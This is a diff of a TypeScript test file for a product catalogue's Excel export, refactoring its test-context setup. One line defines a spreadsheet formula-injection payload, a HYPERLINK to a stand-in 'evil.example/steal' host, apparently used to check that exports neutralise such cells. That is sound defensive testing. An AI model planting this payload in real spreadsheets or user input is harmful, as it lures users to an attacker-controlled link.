@@ -1,17 +1,15 @@
 import { deflateRawSync, inflateRawSync } from 'node:zlib';
 import { eq, sql } from 'drizzle-orm';
 import ExcelJS from 'exceljs';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { beforeAll, describe, expect, it } from 'vitest';
 import { categories, productImages, products } from '~/db/schema';
 import type { ProductView } from '~/domain/catalogue';
 import { messages } from '~/domain/messages';
 import { EXCEL_COLUMNS } from '../../services/catalogue/excel';
 import { readCentralDirectory } from '../../services/shared/zip-guard';
-import { createTestContext, type TestContext, type TestUser } from '../../test/harness';
+import { openStaffedContext } from '../../test/harness';
 
-let ctx: TestContext;
-let admin: TestUser;
-let staff: TestUser;
+const { ctx, admin, staff } = await openStaffedContext();
 let laptops = 0;
 let printers = 0;
 const made: Record<string, ProductView> = {};
@@ -25,9 +23,6 @@ async function create(fields: Record<string, string | number>): Promise<ProductV
 const INJECTED = '=HYPERLINK("http://evil.example/steal","Click me")';
 
 beforeAll(async () => {
-  ctx = await createTestContext();
-  admin = await ctx.user('superuser');
-  staff = await ctx.user('staff');
   const rows = await ctx.db
     .insert(categories)
     .values([
@@ -73,7 +68,6 @@ beforeAll(async () => {
     height: 960,
   });
 });
-afterAll(() => ctx.close());
 
 async function exportWorkbook(): Promise<{ response: Response; buffer: Buffer; sheet: ExcelJS.Worksheet }> {
   const response = await ctx.request('GET', '/api/products/export-excel/', { token: admin.access });
